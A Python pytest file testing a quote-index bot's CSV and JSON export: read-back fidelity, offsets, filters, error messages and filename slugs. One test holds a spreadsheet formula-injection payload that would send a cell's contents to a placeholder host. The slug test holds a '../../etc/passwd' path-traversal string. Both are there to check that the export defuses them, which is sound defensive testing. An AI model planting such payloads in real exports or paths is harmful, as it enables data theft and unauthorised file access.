"""/export: a speaker's statements as CSV or JSON, read back to what the index holds."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest

from bot.export import COLUMNS, export, slug
from bot.index import ArticleInfo, QueryError, QuoteIndex
from bot.models import Quote
from bot.service import Service

ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture(scope="module")
def seeds() -> Service:
    s = Service(ROOT / "seeds", ROOT / "config")
    s.reload()
    return s


def _read_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_csv_reads_back_as_the_index_statements(seeds: Service) -> None:
    exp = export(seeds.index, "Stoltenberg", "csv")
    rows = _read_csv(exp.data)
    statements = list(seeds.index.quote("Stoltenberg").statements)
    assert exp.filename == "jens-stoltenberg.csv" and exp.count == len(rows) == len(statements) > 20
    assert list(rows[0]) == list(COLUMNS)
    for row, st in zip(rows, statements, strict=True):
        assert row["text"] == st.text and row["kind"] == st.kind and row["speaker"] == st.speaker
        assert row["date"] == (st.date.isoformat() if st.date else "")
        assert (row["article_id"], row["article_title"]) == (st.article.id, st.article.title)
        assert row["outlet"] == (st.article.outlet or "") and row["url"] == (st.article.url or "")
        assert float(row["confidence"]) == pytest.approx(st.confidence, abs=5e-4)
        assert (int(row["start"]), int(row["end"]), int(row["id"])) == (st.start, st.end, st.id)


def test_the_offsets_point_into_the_article(seeds: Service) -> None:
    for row in _read_csv(export(seeds.index, "Ushakov", "csv").data):
        text = (ROOT / "seeds" / row["article_id"]).read_text(encoding="utf-8")
        assert text[int(row["start"]):int(row["end"])] .startswith(row["text"][:20])


def test_json_holds_the_statement_objects(seeds: Service) -> None:
    exp = export(seeds.index, "Stoltenberg", "json", kind="direct", since=dt.date(2022, 1, 11))
    doc = json.loads(exp.data)
    want = seeds.index.quote("Stoltenberg", kind="direct", since=dt.date(2022, 1, 11))
    assert exp.filename == "jens-stoltenberg.json"
    assert doc["speaker"]["name"] == "Jens Stoltenberg"
    assert doc["filters"] == {"kind": "direct", "since": "2022-01-11", "until": None}
    assert doc["statements"] == [st.to_json() for st in want.statements]
    assert doc["statements"] and all(s["kind"] == "direct" and s["date"] >= "2022-01-11" for s in doc["statements"])


def test_a_cell_a_spreadsheet_would_run_is_defused() -> None:
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    q = Quote("e.txt", [(0, len(evil))], evil, "direct", speaker="Ann Lee",  # type: ignore[arg-type]
              speaker_kind="person", confidence=0.9)
    ix = QuoteIndex.build([(ArticleInfo("e.txt", "+1 title", "@outlet", dt.date(2022, 1, 3), None), [q])])
    [row] = _read_csv(export(ix, "Ann Lee", "csv").data)
    assert row["text"] == "'" + evil and row["article_title"] == "'+1 title" and row["outlet"] == "'@outlet"
    # the JSON, which no spreadsheet runs, keeps the text as it is
    assert json.loads(export(ix, "Ann Lee", "json").data)["statements"][0]["text"] == evil


def test_wrong_options_are_errors_that_name_them(seeds: Service) -> None:
    with pytest.raises(QueryError, match="format: choose csv or json"):
        export(seeds.index, "Stoltenberg", "xlsx")
    with pytest.raises(QueryError, match="kind: choose"):
        export(seeds.index, "Stoltenberg", "csv", kind="quoted")
    with pytest.raises(QueryError, match="No speaker called"):
        export(seeds.index, "Zed Nobody", "csv")


def test_slug() -> None:
    assert slug("Jens Stoltenberg") == "jens-stoltenberg"
    assert slug("Sergeï Lavrov-Jr.") == "sergei-lavrov-jr"
    assert slug("[NATO official]") == "nato-official"
    assert slug("Владимир Путин") == "speaker"  # (a name with no Latin letters)
    assert slug("../../etc/passwd") == "etc-passwd"
